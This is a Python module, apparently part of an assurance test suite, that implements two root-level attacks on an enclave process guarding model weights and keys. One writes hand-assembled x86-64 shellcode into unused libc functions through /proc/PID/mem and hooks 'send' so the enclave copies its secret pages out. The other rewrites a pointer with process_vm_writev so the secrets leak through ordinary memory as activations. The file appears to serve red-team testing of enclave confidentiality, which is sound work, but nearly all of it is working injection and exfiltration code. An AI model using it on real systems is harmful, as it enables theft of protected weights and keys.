"""Writing (F1): root does not read the secret pages but makes the enclave copy them out, by code or by data."""

from __future__ import annotations

import struct
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from assurance.root.attacker.attacks import Attack, ImpossibleError, Outcome
from assurance.root.attacker.elf import functions
from assurance.root.attacker.linux import Mapping, Memory, ProcMem, VmCalls, everything, mappings
from assurance.root.attacker.needles import Needles
from assurance.root.attacker.reads import judged
from assurance.root.attacker.victim import FRAMES, Victim

_HOOK = "send"
"""The function that the enclave calls to answer."""
_CAVES = ("wordexp", "argp_help", "regexec", "fmtmsg", "getaddrinfo")
"""Functions that it never calls, which are overwritten."""
_CHUNK, _MOST = 32 << 10, 6 << 20
_EMPTY_CHUNKS = 32
_SECONDS = 8.0
_SPAN = struct.Struct("<QQ")

# Saves what a function's caller may rely on, then copies as it is told by four words behind it, until told to leave.
#   pushf; push rax, rcx, rdx, rsi, rdi, r8, r9, r10, r11; cld; xor r8d, r8d
#   next: pause; mov eax, [seq]; cmp eax, r8d; je next; mov r8d, eax; test eax, eax; js leave
#   mov rsi, [src]; mov rdi, [dst]; mov rcx, [len]; rep movsb; mov rdi, [dst]; mov [rdi - 8], r8; jmp next
#   leave: pop r11, r10, r9, r8, rdi, rsi, rdx, rcx, rax; popf; jmp [back]
_SAVE = bytes.fromhex("9c 50 51 52 56 57 4150 4151 4152 4153 fc 4531c0")
_RESTORE = bytes.fromhex("415b 415a 4159 4158 5f 5e 5a 59 58 9d")
_LEAVE = 0xFFFF_FFFF


def code(back: int) -> tuple[bytes, int]:
    """The code with its words, and where these begin: number of the order, source, destination, length, way back."""

    def assembled(words: int, leave: int) -> tuple[bytes, int]:
        out = bytearray(_SAVE)

        def with_word(head: str, index: int) -> None:  # an instruction that reads a word, relative to its own end
            out.extend(bytes.fromhex(head))
            out.extend(struct.pack("<i", words + 8 * index - len(out) - 4))

        start = len(out)
        out.extend(bytes.fromhex("f390"))
        with_word("8b05", 0)
        out.extend(bytes.fromhex("4439c0"))
        out.extend(b"\x74" + struct.pack("<b", start - len(out) - 2))
        out.extend(bytes.fromhex("4189c0 85c0"))
        out.extend(b"\x78" + struct.pack("<b", leave - len(out) - 2))
        with_word("488b35", 1)
        with_word("488b3d", 2)
        with_word("488b0d", 3)
        out.extend(bytes.fromhex("f3a4"))
        with_word("488b3d", 2)
        out.extend(bytes.fromhex("4c8947f8"))
        out.extend(b"\xeb" + struct.pack("<b", start - len(out) - 2))
        left = len(out)
        out.extend(_RESTORE)
        with_word("ff25", 4)
        return bytes(out), left

    # The first pass finds the lengths, which do not depend on what is filled in.
    drafted, leave = assembled(0, len(_SAVE))
    words = -(-len(drafted) // 8) * 8
    whole, _ = assembled(words, leave)
    return whole.ljust(words, b"\x90") + struct.pack("<5Q", 0, 0, 0, 0, back), words


@dataclass
class Copier:
    """An enclave that waits in our code and copies on request."""

    memory: Memory
    words: int
    room: int
    seconds: float
    number: int = 0

    def copy(self, at: int, size: int) -> bytes:
        """Bytes of the enclave's, copied out by itself.

        Raises:
            TimeoutError: It does not come by.
        """
        self.order(at, size)
        until = time.monotonic() + self.seconds
        while self.memory.read(self.room - 8, 8) != struct.pack("<Q", self.number):
            if time.monotonic() > until:
                raise TimeoutError("the enclave does not come by")
            time.sleep(0.0005)
        return self.memory.read(self.room, size)

    def order(self, at: int, size: int) -> None:
        """Requests a copy; the number is written last, because the code waits for it."""
        self.number += 1
        self.memory.write(self.words + 8, struct.pack("<QQQ", at, self.room, size))
        self.memory.write(self.words, struct.pack("<Q", self.number))

    def leave(self) -> None:
        """Lets it continue with its own work."""
        self.memory.write(self.words, struct.pack("<Q", _LEAVE))


@contextmanager
def owned(victim: Victim, pid: int, memory: Memory) -> Iterator[Copier]:
    """Diverts an enclave when it next answers, and lets it continue unharmed.

    Raises:
        OSError: The kernel refuses.
        ImpossibleError: Its C library is not as known.
    """
    libc = next((area for area in mappings(pid) if area.path.endswith("/libc.so.6") and area.offset == 0), None)
    if libc is None:
        raise ImpossibleError("the enclave has no libc.so.6")
    known = functions(Path(libc.path))
    hook = libc.start + known[_HOOK].value
    whole, words = code(hook)
    cave = next((libc.start + known[n].value for n in _CAVES if n in known and known[n].size >= len(whole)), None)
    if cave is None:
        raise ImpossibleError("no unused function of libc.so.6 is large enough")
    kept, kept_hook = memory.read(cave, len(whole)), memory.read(hook, 5)
    # The far end of the stack is nobody's.
    room = victim.area(pid, "[stack]").start + 64
    copier = Copier(memory, cave + words, room, _SECONDS * victim.slow)
    memory.write(cave, whole)
    try:
        copier.order(hook, 8)
        memory.write(hook, b"\xe9" + struct.pack("<i", cave - hook - 5))
        try:
            with victim.busy(victim.known):
                yield copier
                memory.write(hook, kept_hook)
                copier.leave()
        finally:
            memory.write(hook, kept_hook)
            copier.leave()
    finally:
        time.sleep(0.1)  # it leaves within microseconds
        memory.write(cave, kept)


def secret_area(pid: int) -> Mapping:
    """The pages that hold weights and keys; ordinary shared ones where the kernel has no others.

    Raises:
        OSError: As `mappings`.
        ImpossibleError: There are none.
    """
    areas = [area for area in mappings(pid) if area.path.startswith(("/secretmem", "/dev/zero"))]
    if not areas:
        raise ImpossibleError("the enclave has no secret pages")
    return max(areas, key=lambda area: area.end - area.start)


def write_code(victim: Victim) -> Outcome:
    """Code in the enclave, by `/proc/PID/mem`, that copies the secret pages to the stack."""
    pid = victim.enclave()
    secret = secret_area(pid)
    with owned(victim, pid, ProcMem(pid, write=True)) as copier:
        copier.copy(secret.start, 8)
        parts = list(_copied(copier, secret))
    out = judged(victim, parts, "secret pages, copied out by the enclave")
    victim.patiently(victim.known)
    return Outcome(out.windows > 0, out.detail, out.windows)


def _copied(copier: Copier, secret: Mapping) -> Iterator[bytes]:
    empty = 0
    for at in range(secret.start, min(secret.end, secret.start + _MOST), _CHUNK):
        part = copier.copy(at, min(_CHUNK, secret.end - at))
        empty = 0 if any(part) else empty + 1
        if empty > _EMPTY_CHUNKS:
            return
        yield part


def write_data(victim: Victim) -> Outcome:
    """No code: `process_vm_writev` turns the enclave's pointer to the frames to its secret pages.

    It then takes these for pixels, and its activations, in ordinary memory, are the secrets as float32.
    """
    victim.ask(victim.known)
    pid = victim.enclave()
    memory = VmCalls(pid)
    secret, frames = secret_area(pid), victim.area(pid, FRAMES)
    wanted = _SPAN.pack(frames.start, frames.end - frames.start)
    heap = [area for area in mappings(pid) if area.writable]
    found = [
        at + place for at, data in everything(memory, heap) for place in _places(data, wanted) if (at + place) % 8 == 0
    ]
    if not found:
        return Outcome(False, "no pointer to the frames in the enclave's memory")
    floats = Needles([struct.pack(f"<{len(window)}f", *window) for window in victim.secrets])
    seen: set[int] = set()
    size = 64 * victim.pixels
    try:
        for start in range(secret.start, secret.start + 8 * size, size):
            for at in found:
                memory.write(at, struct.pack("<Q", start))
            victim.ask(*[victim.known] * 64)
            areas = [area for area in mappings(pid) if area.writable]
            for _, data in everything(memory, areas):
                seen |= floats.found(data)
    finally:
        for at in found:
            memory.write(at, struct.pack("<Q", frames.start))
    victim.patiently(victim.known)
    return Outcome(bool(seen), f"{len(found)} pointers turned; {len(seen)} windows read as activations", len(seen))


def _places(data: bytes, wanted: bytes) -> Iterator[int]:
    at = data.find(wanted)
    while at >= 0:
        yield at
        at = data.find(wanted, at + 1)


ATTACKS = (
    Attack("write_code", "F1", write_code, seconds=25, everywhere=True),
    Attack("write_data", "F1", write_data, seconds=25, everywhere=True),
)
